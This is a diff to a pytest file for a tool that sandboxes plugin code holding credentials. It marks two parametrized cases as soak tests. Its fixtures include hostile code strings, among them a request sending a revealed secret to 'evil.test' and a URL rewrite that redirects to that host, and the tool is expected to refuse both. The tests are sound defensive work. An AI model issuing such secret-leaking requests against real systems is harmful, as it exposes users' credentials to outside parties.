@@ -262,12 +262,18 @@ def test_two_distributions_with_one_name_are_both_refused(cli: Program, site: Si
     [
         ("raise KeyError(access.secret.reveal())", "unreadable", "its code raised KeyError"),
         ("raise SystemExit(3)", "unreadable", "its code raised SystemExit"),
-        ("return 3", "unreadable", "it returns something that is not a verdict"),
+        pytest.param(
+            "return 3",
+            "unreadable",
+            "it returns something that is not a verdict",
+            marks=pytest.mark.soak,
+        ),
         ("yield 3", "unreadable", "it yields something that is not a request"),
-        (
+        pytest.param(
             "yield Request('GET', 'https://evil.test/' + access.secret.reveal())",
             "unreadable",
             "it asked for another host than its credential's; nothing was sent",
+            marks=pytest.mark.soak,
         ),
         (
             "yield Request('GET', access.base_url.replace('/v1', '@evil.test/'))",
